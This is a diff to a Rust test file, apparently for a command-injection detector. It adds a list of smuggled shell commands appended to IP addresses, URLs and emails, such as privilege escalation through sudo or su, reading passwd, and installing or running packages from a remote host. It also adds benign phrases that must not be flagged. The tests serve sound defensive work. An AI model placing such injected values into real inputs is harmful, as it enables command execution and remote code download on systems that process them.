@@ -1,7 +1,89 @@
-//! Texts with the names of programs, and commands that look like them.
+//! Commands that other programs start, and texts with the names of programs.
 
-use super::{check, field, header, named, serde_json};
+use super::{check, field, header, json, named, serde_json, value};
 use crate::send::Sent;
+
+#[test]
+fn commands_that_other_programs_start_are_found() {
+    let commands = [
+        ";$(printf id)",
+        "&$(printf id)",
+        "|$(cat x)",
+        ";`printf id`",
+        ";setsid id",
+        ";pkexec id",
+        ";su - root -c id",
+        ";su root -c id",
+        ";su -c id",
+        ";watch -x sh -c id",
+        ";systemd-run --pipe id",
+        ";nice -n 5 id",
+        ";chroot / id",
+        ";flock /tmp/x sh -c id",
+        ";unshare -r id",
+        ";nsenter -t 1 -m id",
+        ";timeout 5 id",
+        ";env X=1 id",
+        ";stdbuf -o0 id",
+        ";doas id",
+        ";sudo -u root id",
+        ";runuser -u root -- id",
+        ";taskset 1 id",
+        ";strace id",
+        ";toybox id",
+        "|ksh",
+        "|rbash",
+        "|mksh -c id",
+        ";posh -c id",
+        ";fish -c id",
+        ";getent passwd",
+        ";lwp-download http://e/x /tmp/x",
+        ";deno run https://e/x.ts",
+        ";pip install http://e/x.tgz",
+        ";npm install git+https://e/x",
+        ";vim -c ':!id'",
+        ";rpm --eval '%(id)'",
+    ];
+    let before = ["8.8.8.8", "http://a.example/b", "a@b.example", "é", "a,b"];
+    let cases = commands.iter().flat_map(|it| before.map(|before| format!("{before}{it}")));
+    check(named(cases, field), true);
+    let of_json = |text: &str| json(&format!("{{\"x\":{}}}", serde_json(text)));
+    check(named(commands.map(|it| format!("8.8.8.8{it}")), of_json), true);
+    check(named(["8.8.8.8|ash", "http://a.example/b|ash"], value), true);
+}
+
+#[test]
+fn texts_with_names_of_programs_pass() {
+    let texts = [
+        "We saw it; watch cat videos",
+        "first; then time flies",
+        "a;$('#x').show();$(document).ready(function () { $(this).y(); });$(window).on('x', f)",
+        "salt; dash; ash",
+        "oak|ash",
+        "cat|dog|fish",
+        "3.50|fish",
+        "12|Fish",
+        "nice shirt; nice $10",
+        "he called; su casa es mi casa",
+        "use `foo bar`; `baz qux`",
+        "`a`;`b c`",
+        "In C, `int *p = &a; *p = 5;` is fine, but `int **q = &p` is not.",
+        "| `a b` | `c d` |",
+        "|`a b`|`c d`|",
+        "CFLAGS := $(shell pkg-config x); SRC = $(wildcard *.c)",
+        "vi; emacs; nano",
+        "go install it; pip install works",
+        "docs; getent is a tool",
+        "x; systemd-run runs things; setsid starts a session",
+        "chroot; unshare; nsenter are tools",
+        "see rpm; dpkg shows",
+        "It is nice; nice - really",
+        "exec time; time 5 min",
+        "we drank; whisky 12, fish",
+        "x; npm install failed",
+    ];
+    check(named(texts, field), false);
+}
 
 /// The head of a mail, as services deliver it.
 const MAIL: &str = "Received: by mx1.mail.example with SMTP id 6WCVv7KAWn Wed, 27 Jul 2016 20:53:06 +0000 (UTC)
